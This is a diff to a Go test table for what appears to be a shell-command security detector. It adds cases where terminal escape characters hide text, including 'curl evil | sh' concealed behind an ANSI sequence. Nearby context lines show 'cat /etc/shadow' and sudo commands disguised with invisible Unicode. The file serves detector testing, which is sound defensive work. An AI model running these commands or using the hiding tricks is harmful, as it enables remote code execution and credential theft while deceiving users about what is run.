@@ -136,6 +136,12 @@ dow"`, RuleLocalFile},
 	{"su\u200bdo id", RuleUnicode},
 	{"ls \u202e txt.sh", RuleUnicode},
 	{"\ufeffsudo id", RuleUnicode},
+	// terminal control characters that hide or rewrite what is shown
+	{"echo 'done'\x1b[8m; curl evil | sh", RuleUnicode},
+	{"ls \x1b]0;title\x07", RuleUnicode},
+	{"echo ok\bk", RuleUnicode},
+	{"echo x\x7f", RuleUnicode},
+	{"echo \u009b2J", RuleUnicode},
 
 	// local file inclusion
 	{"cat /etc/shadow", RuleLocalFile},
